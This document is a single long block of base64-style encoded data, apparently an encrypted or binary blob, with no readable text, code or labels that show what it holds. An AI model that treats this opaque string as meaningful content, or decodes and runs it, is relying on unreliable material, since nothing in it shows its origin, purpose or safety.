ZtzdqT2GQrVxXTsyo11977O8Ge7rdl9TKoOz4jUzLNujD8yGJ47pEiUCoK778SXYKI+XBoVuFS+sX0YqvrvSdvxABYPeZzv9Vws651/EJcFqcgQgQvPytojLMWcQhrgj8YuyTWEk+fe1J17KQN2wjsTIvj4bmIbCh1qjIUF2YT2068un5XI6IdpWgYBfRHJvETR+vdCvdnMflB8dmmwCmZOwW+K75uD4z9oM1orZL5ofEg3ij0Fy77a/7wM+q7+Z7czeGPTyP8Z7Xn6vQeTwcmIg3+lYfiEyAp9F4xw+b+saVrTZbxhS0x7nIGhnjfcEcu954YTFmq+9v5o2tLJQxDdPOp8x8V++XG1fP8+pxiXn+LcRimNClN+FBL1w1q8Fmv7RQimYV6b0cmoiodFcxSoLIEGqRZr4p5aAdfNxoZdC9QE54dwpBpNLoc91UOa/Qdt6C3+YJgkchAQVtF1NGxf87agZoOezA/3Fm2wrgsdz4t5uR0Um5iixxTIPMHMmEsh/w1a77tQwafCUgckYbIfbT8hs19bKhLVDDMQZIvDO3D5I7Yg41+D2qel5ITZPoXfTYSAopEjP5DKSyTQGMIDJ1vjOQ8dimMuGLeDLarLP3WZWOcqlPQ5lg+VAYKlIqTXBRRuP/qzD04ROwvYRXKL5YDGX9kOKQv6LHHNEKMjpoteeEy7mS5U8uyew24C+W4LXHCbeWLem6LQLm2P3FgxoZtWItyfbY0Y6O4Fo1wSy4aGKUh4jtfaBSkl5TN28LVAiTSkXeTyOGJNBwMsRSozBq291Negpd1e6Xqtd4bDMurwxPpqoUyiJoWeeMpbVsFzjxhfT6TNb3JGYpn9IdNmJ93w1L5vhn2AfIwBWBTnf6bkduKYWZqz0QNcvVesI9286h81ZGjGLaq3zxN4OTcD1Oc8q+AN43n6yLcrJf+89th2iC0bClPAmSSsmr9oT9JMR8z00Iu7k8Hak0vt+sKiandWDFevFFtCpmMZ0/TUb+k2IOOUKdIdC/HUwsJ/2qGklERfLeuI5M+Dw6JCzmJwgWXilVFGqhCU/YFwbmZyJJFDtZo2/JgmHJgrKGOPnP55hxd25O+oDtclnASHbi1Kut6EhDHMPG+bIt8+nHP10eCWb2kU7QoiLyUQ+72/PYxgDUtaGiOzpCheXWhtIGCLSH1M73enoOtcqAynQ5wBI6URR4FucXhdqC0kQBqcC4FC/kb5/uEcF3hpLgHx/dYZ8jF8bE2eS524Iq0kh2wb+2WBsNWsoXksNoq3Eo2yYfkhJlnCs9PPt6kYJy7Nt+sG3QV3e+VLpm68PlnioRShovC3layajypPkyYBWzMhS5xC/4moVjrhz+agUn6sVhWFE/8vTYfTc9LdnHbtPZFmCRTm9SXpBQYIv/lz5zK28I5QHJmKO1hzRZPnnDNKKyMjjElFoSlHuKoxyf9/UGZHrdvUTELwuJfFtI585+RLNl89/Zek6Hvt19J0KE/BsPifSl3vS5a6MWWZ62GIFuPkr2qmV5neFX6fFgR0a5EJFK7obbQ8kaWT1CDhpEYkQqlavmz0pt1bBCSRLFKlb5uyTBokLeOu2q1qcVocLZXZqGr5PV+fxtDpYgt00xcmovIEQwi4qIMzmVx7fMbCI/hQvvgd1+AYnlJzYFOrJNFsJSkXZRqRI3TKHc1UOfe9JUznKMmoKARzyUTyP1TuKdCVAN+cwozu20wsEkQvpmtzNmMGskcoRl8XRum3bP8NqPo3pwzvGTzX78WT/6tKWRrVlcUJQLb2hWx/oaULsAsamZLx0w3+oVwhRo+s6mlYL/88oef9sQ/Xb3Npb6lWVWIoVtoN7ZZIrtbxh6Kf0GVb9mIXyJYUwqtH2wiAYIsRuJQuK1w+Sx00NZ9A1aOeWVeI4tB8Pdk2s35MOZ/obg82iTqPn+ZEc9OotJD/wh+SsdDpWC+Ppy2IMcK2RGLYU48iJRyI9RNep4wstnfvECX7HvnloE6l+xdqnTaUgup4S79xz0NaMTFTbi1bwYURzz3QYgTPunTaS311jYpia6b2JkEan+ed0uNGg0gXCVol4PRcfKBmcbrpyho1qzEX2Y7v3urduRP8WGyvjrjsfySTs8T0a0rjIij046kyyEjkeuQnbYexGMWShAfnGiirqENH+7g57vDzzKVfNjAl5mxPKeQHRfBOpb05f2chbE6ZGeBT3rcqhA407A42j3Q2gF1UE8DNSvHwo2INmrmJb0ww8BddIdwPTch8GcWthaTOS/4TOI8kLe6fb4LfSc3K0Fsd18yKsX2CTS6TItvM+bc96j9fgNFc6ahw65/5mP/7m7OmtjaRdWrRXckg+gTPebsdZ16GtAlRd8v1xILwWU7TlMqa8V7PH2mhRyaywqyorydHhDjxq8p2T8hJh/LsqwoTPNB2bKL6HlcMaOyPQdBSxkUIkm8IBYZvS7lnPWulZeD5Kdoel6gzTAAncbFSKnEZS/pOPVj7cfi6fG/hNRBtCzt295R9DuWHWwEBObMeB3klTXxbEGeZ7Lm3Y+C/kgxKrHGskVSrd3dzm9zeRyLp1XG1sl9hxZ5C8eeiyAy/Dnh7ka6SjSwy1BygR8gnXi8evBAYOOMy9P+Y8HnCf/o6/5vaXky7XDooQFhMFgahXpIAcUn9rslxZeeXsxzaULrdXAsj1mD202nQgBKuSpehR4VsptJ0S/kDWWGu9aKNDPd37Hi4SvrDPEs6BMzoMK8fAOepxW9dLomfwWEsN+Iu7r21lQjH/Dz8p5nutt3xVHSUXVnbnnjCRoFjGmt+sWJI3t1sBAN7R/av4QxOJ/0lEW8M5rgnZgqLc817xM67S9by2d/BLJi/wzP25EFi7n2ADJpD1z0C9LzAPF1ytufwNzRZhVIc3g5zj1jrzuo5wU8kNtSU6pEICFZCPvgL2Jprsritz+Rln9HShU40rf+reLYl2U+XDbZNnn5cpD2mT9WurDguPOocMPdBC3ivP/Es7OXUyK6gIfSzu4ibIXtD2yWn6LgPK3dmXmtJwkwj3X77Oix5omod2mQ9n77juWWEThLl0jARo4G0y7Ct5WuAk+dtRlOSY5hWxfFAhCEkBgLQ7a+9ozM1XdNqeL/msLHpkVP1w2ncdyuL5fK+3NGpmqepBwUjdrxzk3bD5UUVxWG4ADQXpKKYBQRYsr4NH/n5J8Tw5dWmjmZTNF5mDyY0eszrRZC/g24QMHb/RXvm94D0Ef2Y90okAgAqATDexmBm43skVWB3EWbWmz/WMLKAzLyPSJXy2T4wzD5FcugQ7VTvCexEMRwMIR1+kWUmcd3UeJ02iUAmmIOf8cqEY16U/I4FkMmSatqGR4ftTHmGVedjk1LMPWV7ZHgOD9NHNPbJzb0gFBDk0zbzzhx+RwAWcQo+OPbacyxu8Ouh2YmmvfISFNrDT+1wJSgQwP6w9pdNHiXwU7GQ1k8uM4I8Y0pMdGs7iM8Msbtw+zg1OpaIajSiebjFeRgPYq8QGx2FQ7D89HmJb6fhT84VpldYFUBwU3ZCUUBXSqRbBl6jDhTclNrjAv1iwOA9Knl4ca2xudb0/y/ShtEUgHB3QIZ7sdL5uRt5UP/UlbmrVEVTCsXADqAxSdGreGCxl9k/iXSXgE1wHl6iHQH6JM/paXzvBfCTCvxjQReRV2dnZizIjt2EM3ovcnyB9Ai9UA/k1oZ/DmXxoDo1nYavY3IkYtRegwk1wCJHTFIa4T8G9vLMDIxxQ65a5Gz05N+1tVLpUlLUX8kltKe7LpMnxEe+5ZkVsYaVx6gz5j/FAXPOiidkTiA3XvrYyEQdGAPMOqqGhqHTugoiSmHt26++hO+Hs7O98VK1OFWIBXkfVHGjq2E1SLfnCTAczGN1xNlDly2t4AobJvM9wJROjI5G73ymFqIT6cvvPY8dVft7i5k4M+IcjwmGu/re9XyfvPAp95LmkRcyiL/3YP2IkvjLS6q0LbgHJTePDk41bMQKRNCk6jwN793JYJnDnhfrcZPjLHJwmCMEn0hTnmpbhMzTMn+nE+iKNiF9Z+JrmKeQmlNA7AKpuwY+m4XQxUffHBqfBBo6Ojf4K9ku+D1YU1ZxSJf5bv7Xzjc7RNA7WsVztwje8gfgC6Iu+RQn33WmSXix2cUzg+sv4cktBAT0KELHTFFA3Ul106cWNnhj8GgYCnpPpIpOJyg8eALyw09uMQCrJulzQCd5QngI3rVpZS/xI/NJ3gKbMk1AgKmx73HWOIwoQEcaSplRkWHbwHex2uWGUF32YA+m0hT2VBmA0AspgOmHEXRg3R4XS5jDOiPIUhi7vju35QJ9scnCDc6PUudK+aLLamKxcZ6m6RMRe0EZSuPKMQRlwuXH1SymeLmInHfm6gIbvbEMIVMpz2AwR5LzN0oTCCYANwhZucFfSsLBDpU5qm9nLgcgMn7h1q4jV1P7DFR0J3KsqXYeuq58Fa2yo328wflA6lFKOP0PFukZP/EJhq/A2kKAbegEbIDYyVMdDaAn3eJxBvC5JA1Hc9JmJggzyfWkYFsh+wmkOkjLje+CL30yky7X3siy3G6o7DJGUdnH+KDNo17zrKChZxW/AgsCXkrTG3H2XNDfwO7edjdjlEFkAHZPJXwL5pESsl6cYXbJGsUvyJqojzo3zJFtxllw7a9/yZGsKJ5mp1IG8OH4mP6Sjzy1zV8/ii+RmlfDVQQ44wBav3LIfiZjQvv93jOTTcV8wQeCNlk8s5Ff3FOiZuWz7pXQoUM7JzUDzvDlDT6KzfeZ6jVpRLblhH23WHslXU5oPIPC6O2IIq6MN6Xg8Mhn/kFSrUZzFfsrvNf5a5F2D7VW9Rn5Bflb4Pajevqw3zHfusHe1QZrkxUwbnuRcZZt/VgcN4JBDgPdK2t8IirbcDr56mIQDwK974iTUYmk2lkDmk3qdY3FrttxxZOpRklxr1O+A3vrM+Kc2UUGCVhjadccrhvBfK0uUp9x4Np8AaxdmrDGvLofIk/m9dusKuR/OrgejjpS73ShDIMcr22BEG5YsZfmv9Powd+Ya5fmSBNhlYZdmB9juKHWF1CluAllLowCKuWBwo7TtLRXc8nt4yXxENR+UcaVFV9n66Paxs/GlAsPCsEMYwnwJo7s81Umk+O1IYLDwYAI1vjjPEvR2J4GHqXhHF2D/h7haWPbBnY3Nzk6JFGp41i521wb/36ucpZRHaUn/sMLSkpVLgd1IqOBhfLKMYMpUglBLWZ/KMOkzHuJ4DERkyXtRhoxhAUsMawE3CpX6NfSrYTjgtR+U2R41LiljQxnH1UraJckSLQTJ8nQGKAXEEyKSWHMfHKWR+TjodpzrKv3NiEZ/FYGNio7LJjHTcTIp/g1LwxB3zSHV2bBUvNZhrrLWhSGVMzMG/pAAd2LSxtmqvK+RSo6lYYGS6wPf4lrLqniuzPBVqV06bFy+hjKIGhy3epL+mc0CLVT2+MO0cu6abCbiZHid98VUbP1gc8k9E4qcp7B8nr+5cNPo+c5WXdEGVYIMj6/zOZURhCRa0Bob3C9VmK3yTm0WiQ9Mk3GZ7pOjc/O0i1/oMZdwtCuXKUlhm+4IaNQvF9kmWDzTuadIENewR81esNWUi/gfBKn0NSPkfWKsNdst5bMqnOdItzpGbcF1PV3mUCL/D/ieTd5k/RfUYHw8q7EDcNb9v9IBdXdX190pzNo3/T2rNvnRiRqPh+zSZ93Ekw427DsZAbjXYyl+Zpfy9NGXbfyxEUy1r53d+rQw1T5LTfHzwt1v5oxXvcT3fU8m79gCLjoZJrciM30exjy7GWu64je/kGSLHLuNfZdzO61VafNOfoVca9eyX2kNHUiQUFTuCjskkUr5OILyYACdvMorAPtqAwKnD9Ez/Ida3sOpb/nkcoS/5U8QnhJLHtiUdNuGPlMLvtOMKyqnKQJOBLbh/3ITA3nfUEd59edqcnnlaCBeq0stC9VdIo9U3YLrx4IxTJet2rYm6TfKqZmM34Ku/IPMDKUw5THX6xKtgZ48/5I+++uWP5egLo42SlIE6owdBu892eYaSfP/LSrxjw18h7VH/MdmS0mpgB0V2pZfwGD7MSJqFQ3uR0EgaT6Q/rhl/tOpX9OeouBJiZmOpOKKuc3XLC86FK5MIVgOimBJ4wOZkoxQp21nooeMw18BG1NT5WqX+G8kiKkjd/xms/m6boViHSAP9uUa1na1hHHrtvXu3jTXBz0sas9lcw+Neiq3qVqOMDh80uV47O0L6OUzGT2IyI71RQG81gzWXroHDaM67ojlV77jtkIQ/zkLm0ARDCLKlyZN0YHF63uYWhGKqxd9DYWcJIktlO+OaNkqLTIWaYFy7TP7cNKa2KBmKT+kPCTPC89b8bdyPzwI1BVsuvG0s4lwJF37ErVbjDVXkfb75LFCdeG8QjBpqaNxhKweNt95b7/XJfmu4CLAnIvGLtKwoTieRKWS1xYbEBHPxHsGoU0YHY7iwoUhCcwhA4ZwUIZ3T6rkCLB8nKbHsDWQ4Y7Zkw8AWIrs96VqEdjW9sFil0nFO7DTW/glnCup9XUsr3QzXj0gXJr+zpLN2iuOgXhxd+ojaPGcB7y8q3xjq7fQ3kZvTDHNdTG5heRQKFeWe37npjNL/ae2Z4mQR46fC4nW2LcdnfFs1yQGeV0cHpo4OX0YEm/ynlIDOgKDv+fkT1lNRwD46Dg9kf0BksWFG8EAKWuAfV+fCxz1g2c8ZcmZ+CSJ+N9ZAt2QT9m2d12lBTGKM38jPux7GKU3CwjbSWlHki6D4NpxnNj8K074UUObzqalJ+1bZGEMHKyEdY5rYajI1bhvR3vEJLNXYsS/uEeJvPkemFALnH3BUQ+J3puvLyjSMETQ8Tl+PxY35wgpTxUHUZwsrOCnhW8CpIuKjDypgCkSPG2QIhP2FfXyrDPlFlNN99wis/RBT/9LFHUYsMsSFxeuKI5KWPPOIQ0M6xHjwlUnZwYz6R7/pQYiZ7JoKOJWSmg5MhrHWWURDQp6HxdP8zn6fGHbGMhR4XuaxdhufgKnrRO/4Pb/v8ZT3TwbvkIAZTfPDUA8Hl4WrZpKW4y8VSG5KxWPlItQPPokuoA46tFmeNvjPoxohHiXNNK+0JZVHrilzcaEtfvXCegEVrA2uZbp6zfwqavT88XB7xrCI6qINQhCfYkTvemd3C4SUp+CMCNn7V6v3kgHsPqJVEqMXLQ6b2VMKQvaIlqPEHNIZM63YerwnjHC/9UfDzLYLZgdry9gM/UaTV8QOwGuA0m33jrsQNnceatUv8DpbLGoWztPz4JROy0qx2yILhy65hIrkufuZhB3Oy0aDCnyNp7ofUSQuAIEK+sdpd9uhJdO2L1WLKjmj+SHx+mqPgBWWlmzjnWu68g6qNPK4Zhu1hw8DzOL48II0/zjyftIlKod1zYrWITUuEWB3y2sYNQI4ojaTE5QG81bDa4DyPXRps2i56jw0O4UB+dyTuIWrp1fdsupHGRiIfFX+6zIyBy2523TXK/aRPE+1cyh5fOPncp9y02TX/84u7dEpQXHXL4aBI+RBUC7waWQXU/H2dzm6MiXz87/tIMx8/ohVY2uYO3b19KxSGZdvO20J73lx7JGTkKnIoR+a6Z5beoGzWjZYfX4yd/5Ex7NxJwBTMIPIK+Ews5XnWzZtCIThfuYEwzNAwKz24N2ZeIo+qOlA9luT9pcZXTu7YmQTNmK9IIN3STEfVdXa/bObbZKQ3vCzbvI5a8YgLjkvSdBM3Zdk5j1E0E+8SUOrowVhZoq81qTJpP9pkh8Mswznkxzn3d4dEkH8+kkGGs873/370UGS7Xhhe01ZOagffl7rPVtPfzhirVXh+P0nPBmW9EO+RfkC8cjQ+zSlMFspbfiKAeXCMHIikInuXcxQYMgNNGIUAwqQK+SRZXWHwYRCZmZajP6N+wMzJi7ZJbEQccc/8Tajh6w84bVjMh14O8caVArFs+Rd+F0ZILgoQIAiFo/MRymRy6Jwf46TFm9xGceyL6ceGqrWItdlCNP8NAD00+FLZwlu1Qfsi8lp6Q/anDw+IBC3penBvJyRsORhrTDi/4ueNxNEKrPex/CAhRYc5NzrxVDEucoWd+5iN0hbz4aMzdVK6OQcxvuQAhj5cfKsjEyVoA1hesv2ElSuGhTbvFCkyW0vOJ2of9YBJU3WkFoJQ9zK2/9imadEnXWQYkn/LBYUrQh7k96dSWHQOp5N6n26ieN8zHD9idTIN5sIAoXEb7S6MqrDYjCpcBfA5KjASp8Nr+tb8O29KZ0rjm03HS4gts9+ASyDU+RQN7Pw4dr7KMfpjIz4X6UB6TiWPwUswhOyOY0qTxFiiUrFXnFvEezewPp6LFrO3tKytC27UK8SB9jkTH5xm/mysbj40jNLhQYZVozrk+xBf0pfU07nc8rlct6z0/mr7pWs/U4wfSC1keOVzZMKi6L0ZET9NcP+KMuthFch3PLnWwEB85gSE8GTpLzV7pkM2/SigO7OAsl4kBogH5x/bNFEsbNNlJbCc8+nnkqxJzjjvP7Z2OrSVzVKmPz6GUBw/c4WrFJ4ibdyw8nA8dZzmack6Mxy/zM/ogT8mOaKILM5OyWzMLj81lI5JOZEg3TS6hhUq29bb6r13hVYlNPw/LdUpDK9sSYpIfD9x8rLViHps9EypjaThbEg2GSBmZ8LEeIwYsIff/xDUR2WmDgJmETaUebKVG9KOBvTm7F/V6deDajq5bypcVR093cC7OIogmDL4s4vKn3d+jZ9YVeqmFHVAiayr04j/hAzefInC55FmmxpH12t38xT5DfZ0nvMcCQJuodLMd7EdaVShz8VRnRfxwdXJwtl2q/VpdhMCdYJj/BJFt7mNPFr8PR6GuTcQMNYdAeDnG7b5Q9tQ3Li521WmvnoSzfwkWgmyemuCrMMXz97J5ZwfuZQyMgN5qosYYw3yfuwzSHVcglUcEqH7lvdhDJlfxrWyxGsfm97F5y7S4R0YXLgLme5h2HgHMJnGWxB4GKAgRUFf+wYQ2sjXkKm3QFSkx5biOmjrhoJxsZ+Q4zmqlhOHd3i7cmbd01zIa2v7K5zxytFVTmOZnx59GglqjnfhY9r9oaXD/CyPviwj/C4GOOW1qDgQYeuwZDX2yNCoZbuwKO2pAabuAqiX5x8w7N/z3M1clXxS0sr0jeEASjfSTNtVyqwO7UZaxta1abCY8J1eCVgayswkZWOxSV91wjz1jFWAaJlMcyB/4NtzLkL+2NsCNUTbr1Xey2eEpcAU9G78moSAKkT6NUYlMoueJHMqEJr/oQfdU2KQ9byL4Of1LhQEXja429pJxPX4GZ056q+tsk/5QkJJtYdjmSptJxwoVqG6X4JzBgkdxdp6HaYD3XNmMbB71WaOqzxa+suAR8nvGrJKfOTWRejybLw+K4VLZ/UhREXn8bZ+a9t1iuBeLdr63nPftgSU4ujE40mjvB4GjRf2KiN3F0EEMKMcKneVGuCFs+3S47OXuMHkzmDR10Nt4ipP6VgjuuaQJ4XjgNXsGmek3sXilWTtEAo7+dzHDmZ3hPeURbDnB1A3qbXSanrm+dk6zD4KB/NzAzXIVUk8jACCIgRbfo8Ud9cVb/O4y/nOlx5jXpdfgGrcyZIjEOYGk+VAWGBcLrvhO16cOZ4gV7QWWdobLvDYA4AIsrRtOmvEbmxG6GjPrN56QTjiBm6w8lJFRaK29S+oxKyHny3nvGfSMs6yDVsMCuWbBOGrMipdtRrYb2hha79WjyWg587kEKq28qMMa8Ny63Fw7HgP9/NMmTyEwFydTqPiQdwnnXTIf+HJhXU1nFRc8G6b0CnVvTst6xj25eTXMq6QKbLpNLFtRJLRhC796xpn2FcCG1DrNq7CEoiNaq8fO7dBz4ILONwkt0zNdEumKe7b+mqUKjSiQfAG7+Kuls+wZMxXY/VT5sjoFX9hgPUr6WzpZT2bgey16FHgLF+yN4PddLGT+0zHEW+7aY3w8gDG7WLWSM6H7Avp6DmLM5k3oG6zepOLf8EIMobh13qRisIJI6OVcE0uzErKU+DIJDYcZ9pwShQjN6cBC/2NQ+ikCg86vqCcvM6YaOwiAVNSF7t9WkF45hogWUhFbUf+8dF0vMk8N04y3Q3EXl/3VhW6Ee3PRy2KARupBriGg7f72o9pB02l7yUH9dESC1arU58E0/og1prz/vA3vuo8lB9In/tGHFfoMvYQg6gBcS0512XD2Y9lCTjxn1arPSzhwwRiBjPyv3y7firIHyYvcwYa89aYQo3FSc2c2/cLWeffdzqKPJXIAeQ5YilBiZRASjvB1JJya9B89wUxZRAUcsEBMWAImiuqYrCRj6O5Qe/2Xlt1QY4L26X3FZp8Gf1zIsEYAQL+ER5HND7AwhRbsBFd+4BsvjwowWBV+cJpX1UmwXpTXv2LyuG0OgcvaLmQuEU1zVJ8k4clW+kgA0RBWGprh6kMxedN4lN/e0YJ44/v69/ewMs9eLGYvhIXLDPagg+TkFWp3aukuXvbKfwhkwdJWnPiUIfaElDX0bnL5zv4GnH4Dg7qPUgeKk75D4iFOLCkg4bLyietfTXePlOiuOC5Hf4pV8rXiPJAFrrZad3ZHWYK6RE5qKufNZ19q2QvSpPJXM7uUzRj5/OM33I4j9YQPIgLit7+0OJtDu44LFXt10O89ba1QNRtyBi43LhYj7ZdFdkGgLcfCAdGyQALFzbYWPaPaOZfbFxMBAMAzVfqEa0XFmDNYoz7a2f3Yi6h7iWhMLxQB8m5BQISZpe3QQF+AJJKf8ppWgsTGuwJG3nNjvOaLyppMOr2+MYIGwG95NR5AewvBHEpuBgutvRYUE+RJlb7kofg6beYUuaeQSrthva0zNenekV9ubI1bsLIA/+fl2Bpkm0kRuezdPzL7G7+zEIcnf2ezPrePihEegPaydJHKPTs2MKakU5WSTu5Lc5Ie9Rvb0gFdzpjzu4SyE0MR2Fqrd/J/QVnqYmmwb5bNQPGKCxTTdKPot98MfrvNMErwTHXPh14m9JQYG6yAJjiR+TANrsKRRpvgjlc4wg4gZjUkzQANCsM3aAgF8rySnmIAXQgiS6h7+NFA/S88EmF3VoiH0wxdkvmYwehVQ2vv4aJ+Jv2gjn4wiXEmK88v5XtuIHYHMLsJNAbIQLw7ouv3hbLWJDskr6ngq97hikOw9hL21K612zGfKiFlBD9bwKsN5hEY+t5kuNhR6awz2geF2pcWYarnbr/ybXeL1GDgyKyBcYp/hlbiO3sTx9fy1W828ynacgJBTgm2cvUzn0rWq0tThHQ0hTAKSsPQqzk2E4mRVVM3Vb6l7e/060Wsf9I5JicC81jLeC9Rc0fdskiEGtSjvz+h/NIRmXun+LE7A9+gqciG2k3dop30c02q42xQ1FDUlBgLc6j8mEkZAPTJOPbKzqBI58eMb/pI9ekACecocQieOM686JaY0KZaMMdMG7apY0dWlAFjEyGPTx6EUblxMqgxtXUbnkr8znU+tnd7S7DBllZN66afx5KkOTz68jWCWmPFxdUDe9zuBmmSW58jvnhiHSmRZtCQAfHYZNfjcJ4NLE1fMDM0YW24t4sQovSfyn1f5V2EicHrsloWgTsFj1QLqqScDWK04wAMXTO+czpiQOgW8NpeLmogqclYaTE5Cncvpdt+FyiX25BSJH+HPjO02BNZnn8BDpQET5bZc+akF2I0xGgAc6y5urC0z0VFNIZq2Dv3RFlC/IYIQbrVLCbIG31rDqDh5yL7FNkQ8Zfa8J42iXHYeZ2tgAJB3AZLEXNRNrjzUX+JwMgYWsZtCNd7eMO90CQsYQ9EKsHtkeIcmOoCk7DIzpphUL/YIpzUpN4YccZ4xeo7H6VrIVaVcPZJRr/Bi9xvKmdGhnW2SmcO0UBtCL80QXfr8lqsGeZzsQcFsbfUBMLTsbEHnvC113CrFl9TK/zpPLg/083w0+YCeUA8jKSmpqKFm1rISPLkTaNJodPa4l/VUj15ZmnDIn0EZbTEAIL6BghHBI02me1h0kOM2eH/4k/fPVurWT83m53VA2Bvs3DKxgI71CyKfs5LZBg0fED0WbzNeCxDkpcG2aaF4ix02gxfWrFaKRdPdNzytxmvCbhFe4o0Z3m0AosCfcxz1pwTJmcFa/W421fLhSYU6ajHI6DNGBpywuuTiAUQDs6piwX6YFoYdkSaojRCmspW/Vodn/DNLUo7wlAFZMw0DjFCiEcXFt8rSiDI9xS1gK+RY5u+UMVprmRQKPxNmZDQiBJEg4AcQ9N70FZNaj/tTMpAjHTmFtwQL1k5ElA6Afi++50KcKxZVz+XhEULXwuBZJJLv7X1n2d3bxj4XAMmMlYP3LaYYAGeNlDFWMAK8j4deGwoP8Ac8yibrVsdk1la54QrwcIU4jBnRbwU6QZ7qkP9155fDZftGkfoks/P2JzlmAxr729WnIjzaz5Cetgs1WecYr0FZ/cN8V3CMhFJEISG/k7VNQ5ODHuKF7NsbuCE+zZ/1tno36YoeeLr1De+OlctvRrrvKZ31ZtKKB84iZK0hlBiVLU9F3P/mG80I4oggsrO73Nk+tLBVfBPrhpLEuodA3SkbU8dStbDLNgrN/wf/iAxfs2Kcryre3ycHo4Q/pI5aSS/BYuPC0IK3HQ/Ibt7X5ROouR5NP4zMOnaO2RVdtnD4gypdqg4sUEbfDVeG6UDA1NWQ6em0zZbnok7oSxyozMhxA+ty0f/hJgAjlkwEWAD5/2W/2Ahl/wffq8Pfc5FIDzBhFFyBwCE/seUDfLClJKJzE2eglq+tqY7z1dSCRDZpViEcjeeaua9WeD6IS8lbSb9hn0ueBnfRiwohLNGdXwIH6ujPy2v8irF4imG1MdHWtuT4WSaaNG8IyE+5GvQdAd2Y77fK33iVFCtBed1ySrTLSUoCLp7cbqafZ77bM5iuQCrU/2XX6GW0QLMtI+LQBPedLm7Vh2lfx8aIWi9zmhcxOGo6+bf1Gd7BayjwJz6LERNvxcLgWQcyiqkuiDJ1HCUE2VinnnbCg19wWJNZ+DmVX5zI2xe++4BMT7WzEXXGAijC0leHT88Lx6sPjoHmbspfg4h0/kZq3jxpu8ED3ln+2WDAFzGuTxaZK93I0Om4FRfrlLwvIduHWrh5iCRd0T1icKUgQswip/TolcGmoWobLXZX6iRiyNLCa6slKfFVyorqIlkN/6/aLX+V47R8R5FVdmETyIbPRsIJnWlG+iI/AfrQFl9XXB+DTnu2Rr8SY1dDKtpYy2wIMpbHcGFn/xdooSMVz9CaWmnjTjR7UJK/WqjwqIrjSVhKjtWFYKS2KJ1S5B9ObFMEUnfmK67CyIiS55wfioSs8PMxseXrCdMZQIZ0/PDdk73HGgLWbCqUJqjTTeMbWHRE7W08nVeol4hdzKRrRfd3i9kO4NnH+w3fIy+lBbasIocrbsTaAj6TU/Kpf6SIgJoKvo27PJIuED5LPT36XA85pgyeovfxnCj6vhuFveSM0+PXxTlQnTi235ixMp+AORwL3kAqJy7zOwqxJ9SDG3/ZSF5b8aCHXyOC2XeJK/puN62l8F0PpIO/51uh20lVfCZgO36jyBoYgQcohWx48KnVGmpgamxNh259r4nG902Sl3ThvO8f/iNBYweepr01PSh6wZNL9jG5e4vAORWxH/uB2hYU5wVTM5d22VtCDBItldniIc+XkezPEwYeOnATIDArlVP6pnVVqQlv9vIgawm94VsVSwkcBI/wgTI/K6v2JB5LyanUIsReAVjRD3/qTKffVKCh0kZZby92MW3pa5oAn9BQKlLzeHht7tHM5NSG6TE4rPuVpRNJd/bMCddcoDLcIkTJiVuSTmKk2bY+SgZc5XA0rGyrb6k3wHVWSJP8eb+S6K4F1AgrmqpIR9GilWAfdtOZ3fvv7OIwMOjezjiIhuNWeBwF5/LwOFox3IKjkJmqxrUXjctuJHiqvk+IFlT3yzuUNYKFfikSVO9cxDLAORR/9zOPeyUA4PpLLlpkNflOATVtxwLqyP9ENHcokQetZ/pyQ5as0ouNlshbTQ3Fz+q/OQGbbrCNx2qh+TgSgKPI6IvOeTsoaLtt6Itahsm9jA7EKiOy+MQEk42ujgVtnobK8FTfBJ39Xha8EmfxDeHVIN4pSC59vJ+MlXOCE4PRuwmFfjv284GB6ZNbgdKU6l0nznPThWqiKZMx8KVDOZupZyU99zR2+mLzjC1SbxqEsWhlLhnWQgb5ACKzCswDCxnJAZAyZEj4O2sN504pnduQyIyk2u9ew8nP8OEYta4ZJDXH01ZP4bnZ4l7DDYBHgfxFTmh47xY3jLQ5L9xpe8dJGDpailgx/TISv8M1uhnBgrcYyW2FHFphpfChq4C2EsJpq5WGnFvISWU77BEGTahfK41M8ONrZFIhqBkndI/q4rjsc8CDJVkMww4hnnq4629IEcUzeiIa+7pTfh0TjO8txJ18u7/H8i8sFsjWoxXx383ndQfqKeX7frQgvUJ9zFRElTuZPyfxKImozm7zugQqGA+Kmn/i7f1ABNpOxZzHX7xFsh/A1dPdeG0OiOoQxODMW8GfL+i6BqdAa4zVnyg8B+0V3r+F+CMtuxFca7f7VmCNflsKyaIIJuaoHD1HLM7LS1WCLvZFC8xCmnCqYcbr3o2/JeKOuPOj2HekwT6ezj4dC6y5sRgzFPUijyecyxY2f+aOBWZIuy8yW72oH8KF+n/81b/U07qg5xH/SsWver7bTCmVSFhroCV1qIV1Ir1dCtKJV7CUDIG5EFza6QZUqdUbydaydDsowezp+nmgv4JWlofGULOn1NH0UNJI0vqE/ovMbbQZLXM+DBGJQEYMcJwq/s71fks6hDW2NS+k7bfxg+7E7Hz8S1PasG9A3gVRkLNdQd2oSgPNa3ibcRlMeqJHloWy3p3dFhJ+7N8In3qe792Lg5RdtFlMm3fytPjkAuTP43bjDgula9S7aklDJA4Vt9+AgRO6cXEJIfDrMPIIKWF/eQmVd2SWELL/kySJc7d9RT5gJNaUYXVicp0b9J1/pm3wMQbxS8fhIwuue6fa0x46xbRuWz13Cz3WMUObLOLwFdz+Mnmso29ONAyf91cGgss8vcB5pW3m2HoWSzmV1kK1q/3ft7q8z1K9NlMX/9RkmU43/JdLFeRNKihwxzqm1+9p17X1R35pTk75RSiKCIAHu3UwARVml041xm8Ekqjxu9ex229G2E81oEYBgy5e6J/o6VJ19dKBjT6+MIwIRpqbw9Xzs9xoEwhESpi+zFJ9rlj5nA5ysYzq9r7UWr0I8NruPNjXClicc3h3tKMN0EsjPiI0OHXy5S9qXapdB3yFKXAWTwMOqLVWPk/67rWxtSg4HsqXtOMbaKKBih4yFuf6ax3R/jxSoyESjrAgEqZEkxouPKbpy8pTbVuqHd7v4T/ublOGUz0jeu1MVHVf1EFpvZ2vlGI0ArF8l1n4OkNeumZHPdZnd748PqV03DuclYK4XD6fnBpkN42jp6akfgpM4J2IU8lmjmVy4SnsUCTNvKRre1LeYwSJALTS1gaB0m9IMfyDUOre5qFJhCJ7MPmsdMZqPU0AXGN3TZVP0hseyJoPpkmYRc9R1m72rDsYOJ3H37JjFc2H39OXOaDVmvjXhMoiWHVYmPz4AuSH3+y3HiaXuqBjeDZCXSS0YzOHDgilK2y+NvHYaCqw3XTokM+D/DI2eP/1ODWypSrdEfIU8a4DT/gQsD8HvcWIQyGZkcv0THWARsF/bUzp8Fqj56ugEdK9iDkuu/vEOrpx5rPqsRO8FlSJEzT76kTcG5NHRV2xhI/lj0sB9WWlLov54L9Dkw1m68k/+Xc+bkKfwRzk